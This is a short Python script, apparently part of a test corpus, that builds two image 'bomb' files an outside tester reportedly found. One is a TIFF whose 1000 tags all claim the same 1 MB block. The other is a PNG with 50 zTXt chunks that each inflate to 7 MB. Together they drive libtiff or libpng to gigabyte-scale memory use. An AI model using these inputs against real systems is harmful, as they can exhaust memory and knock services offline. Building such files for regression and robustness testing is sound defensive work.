#!/usr/bin/env python3
"""Metadata bombs an outside tester found: small files whose tags or text
chunks cost libtiff or libpng a gigabyte.  Written to the folder given.
  tiff_tag_bomb.tif   1 MB: 1000 unknown tags all naming the same 1 MB block
  png_ztxt_bomb.png   342 KB: 50 zTXt chunks that inflate to 7 MB each
"""
import struct, sys, zlib, os
out = sys.argv[1]
# TIFF: 1000 unknown tags each claiming the same 1 MB block (an outside tester's file)
N, K = 1000000, 1000
entries = [(256,4,1,struct.pack('>I',1)),(257,4,1,struct.pack('>I',1)),(258,3,1,struct.pack('>HH',8,0)),
           (259,3,1,struct.pack('>HH',1,0)),(262,3,1,struct.pack('>HH',1,0)),(273,4,1,struct.pack('>I',8+N)),
           (277,3,1,struct.pack('>HH',1,0)),(278,4,1,struct.pack('>I',1)),(279,4,1,struct.pack('>I',1))]
entries += [(60000+i,7,N,struct.pack('>I',8)) for i in range(K)]
entries.sort()
ifd = struct.pack('>H', len(entries)) + b''.join(struct.pack('>HHI',t,ty,c)+v for t,ty,c,v in entries) + struct.pack('>I',0)
tiff = b'MM\x00\x2a' + struct.pack('>I', 8+N+2) + b'\x00'*N + b'\x00\x00' + ifd
open(os.path.join(out,'tiff_tag_bomb.tif'),'wb').write(tiff)
# PNG: 50 zTXt chunks of 7 MB each before IDAT
def chunk(t, d): return struct.pack('>I', len(d)) + t + d + struct.pack('>I', zlib.crc32(t+d) & 0xffffffff)
z = zlib.compress(b'A'*7000000, 9)
png = b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', struct.pack('>IIBBBBB',1,1,8,0,0,0,0))
png += b''.join(chunk(b'zTXt', b'k%d\x00\x00' % i + z) for i in range(50))
png += chunk(b'IDAT', zlib.compress(b'\x00\x00')) + chunk(b'IEND', b'')
open(os.path.join(out,'png_ztxt_bomb.png'),'wb').write(png)
